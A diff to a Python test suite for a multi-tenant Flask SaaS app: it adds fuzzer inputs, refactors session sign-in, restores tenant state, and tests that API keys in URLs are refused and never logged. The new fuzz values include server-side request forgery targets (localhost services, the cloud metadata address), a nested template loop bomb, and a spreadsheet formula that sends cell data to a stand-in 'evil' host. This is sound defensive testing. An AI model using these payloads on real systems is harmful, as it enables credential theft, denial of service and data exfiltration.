@@ -34,10 +34,10 @@ from flask.testing import FlaskClient
 from saas import db
 from saas.auth import hash_password
 from tenants import services
-from tenants.models import PlatformOperator, RoleGrant, User
+from tenants.models import PlatformOperator, RoleGrant, Tenant, User
 from tests.fuzz import crawl
 from tests.fuzz.crawl import UNESCAPED, Form
-from tests.plugin import TEST_PASSWORD, bearer
+from tests.plugin import TEST_PASSWORD, bearer, operator_session_data, session_data
 
 # a view that raises answers 500 through the kernel's handler, as in production, instead of raising into
 # the test: the fuzzer then reports the route and the value
@@ -60,6 +60,15 @@ ALL_AT_ONCE: list[Any] = [
     "9999-99-99",
     "\x00",
     "{{7*7}}",
+    # the server as a weapon: internal addresses (a URL field must refuse them), a template bomb (notice wording)
+    "http://127.0.0.1:6379/",
+    "http://[::1]:5432/",
+    "https://169.254.169.254/latest/meta-data/",
+    "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
+    # data that goes out: a formula prefix (exports), personal data in disguise (public feeds)
+    '=HYPERLINK("http://evil/?d="&M2,"x")',
+    "@SUM(1+1)",
+    "１３８　００１３　８０００ zhang(at)example。com 一三八〇〇一三八〇〇〇",
     -1,
     1.5,
     None,
@@ -176,12 +185,12 @@ class Browser:
         self.stale = True
 
     def sign_in(self) -> None:
+        data = session_data(self.client.application, self.district.admin)
+        if self.operator_id is not None:
+            data |= operator_session_data(self.client.application, self.operator_id)
         with self.client.session_transaction() as sess:
             sess.clear()
-            sess["uid"] = self.district.admin.id
-            sess["tid"] = self.district.admin.tenant_id
-            if self.operator_id is not None:
-                sess["operator"] = self.operator_id
+            sess.update(data)
         self.stale = False
 
     def open(self, url: str, **kwargs: Any) -> Any:
@@ -199,11 +208,16 @@ class Browser:
 
 
 def restore(app: Flask, factory: Any, district: Any) -> None:
-    """Undo what a form may have done to the fuzzer itself: a module switched off, the admin's role revoked."""
+    """Undo what a form may have done to the fuzzer itself: a module switched off, the admin's role revoked, the
+    district suspended, a temporary password set for the admin (every page would send them to change it)."""
+    with app.app_context():
+        db.session.execute(sa.update(Tenant).where(Tenant.id == district.tenant.id).values(active=True))
+        db.session.commit()
     for spec in app.extensions["saas.modules"]:
         factory.enable_module(district.tenant, spec.key)
     with factory.as_tenant(district.tenant) as s:
         user = s.scalars(sa.select(User).where(User.id == district.admin.id)).one()
+        user.must_change_password = False
         roles = set(s.scalars(sa.select(RoleGrant.role).where(RoleGrant.user_id == user.id)))
         if "district_admin" not in roles:
             services.grant_role(s, app.extensions["saas.roles"], None, user, "district_admin",
@@ -708,3 +722,36 @@ def test_an_upload_over_the_real_limit_gets_413(app, district, operator_id):
         assert response.status_code == 413, op.label
         assert response.json["code"] == "too_large"
         assert response.json["message"]
+
+
+def test_a_credential_in_a_url_is_refused_clearly_by_every_mount_and_never_logged(app, district, caplog):
+    """A token in a URL lands in access logs: every route of a module's mount (Open311 today) refuses a query
+    string carrying `api_key`, whatever the method and whether or not the token is good, in its protocol's
+    error format, and no log line carries the token."""
+    import logging
+
+    caplog.set_level(logging.DEBUG)
+    problems = Problems()
+    prefixes = [m.url_prefix.rstrip("/") for spec in app.extensions["saas.modules"] for m in spec.mounts]
+    client = app.test_client()
+    asked = 0
+    for rule in app.url_map.iter_rules():
+        if not any(rule.rule.startswith(prefix + "/") for prefix in prefixes):
+            continue
+        path = rule.rule
+        for name in rule.arguments:
+            path = path.replace(f"<any(json, xml):{name}>", "json").replace(f"<{name}>", "x")
+        for method in sorted((rule.methods or set()) & {"GET", "POST"}):
+            for token in (district.token, "wgt_not-a-token"):
+                response = client.open(f"{path}?jurisdiction_id={district.slug}&api_key={quote(token)}",
+                                       method=method, data={"service_code": "x"} if method == "POST" else None)
+                asked += 1
+                where = f"{method} {path}"
+                check_answer(problems, where, "api_key in the URL", response)
+                if response.status_code != 400 or not protocol_errors(response):
+                    problems.add(where, "api_key in the URL", f"HTTP {response.status_code}, not 400 in the protocol")
+    assert asked
+    for record in caplog.records:
+        if district.token in record.getMessage():
+            problems.add("log", record.name, "carries the token")
+    assert not problems, str(problems)
